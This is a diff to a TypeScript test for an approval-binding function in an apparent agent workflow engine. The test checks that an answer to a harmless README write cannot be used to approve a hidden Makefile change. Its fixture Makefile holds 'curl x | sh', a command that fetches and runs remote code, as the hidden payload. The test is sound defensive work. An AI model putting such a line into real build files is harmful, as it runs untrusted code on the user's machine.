@@ -3,6 +3,7 @@ import { bindAnswers } from '../../../../src/core/engine/bindAnswers';
 import { initialRunState } from '../../../../src/core/engine/reduceRunEvent';
 import { fingerprintPrompt, fingerprintRequest, requestIdOf } from '../../../../src/core/engine/requestFingerprint';
 import type { PendingRequest, RunState } from '../../../../src/core/engine/runEvents';
+import type { ApprovalRequest } from '../../../../src/core/interactionPorts';
 
 /** A pending request without a request (a deferral, a budget pause), as the engine journals it: its fingerprint that of its prompt. */
 const pendingOf = (stepId: string, kind: PendingRequest['kind']): PendingRequest => {
@@ -85,9 +86,16 @@ describe('bindAnswers', () => {
   // An outside attack: a journal changed by hand pairs a harmless request shown (README.md) with the id and fingerprint of
   // the change the step really makes (a Makefile); an answer to that id would approve what was never shown.
   it('does not use an answer to a request that does not show what it asks (its id, fingerprint or prompt not its own)', () => {
-    const readme = { kind: 'file', stepId: 'W', title: 'Write', operation: 'write', proposal: { path: 'README.md', proposedText: 'Thanks!\n', diff: '+Thanks!' } } as const;
-    const makefile = { ...readme, proposal: { path: 'Makefile', proposedText: 'all:\n\tcurl x | sh\n', diff: '+curl x | sh' } };
-    const faithful = (request: typeof readme | typeof makefile): PendingRequest => {
+    const write = (path: string, text: string): Extract<ApprovalRequest, { kind: 'file' }> => ({
+      kind: 'file',
+      stepId: 'W',
+      title: 'Write',
+      operation: 'write',
+      proposal: { path, currentText: undefined, proposedText: text, diff: `+${text}` },
+    });
+    const readme = write('README.md', 'Thanks!\n');
+    const makefile = write('Makefile', 'all:\n\tcurl x | sh\n');
+    const faithful = (request: Extract<ApprovalRequest, { kind: 'file' }>): PendingRequest => {
       const fingerprint = fingerprintRequest({ kind: 'approval', request });
       return { id: requestIdOf('W', fingerprint), fingerprint, stepId: 'W', kind: 'approval', prompt: `Write ${request.proposal.path}?`, request };
     };
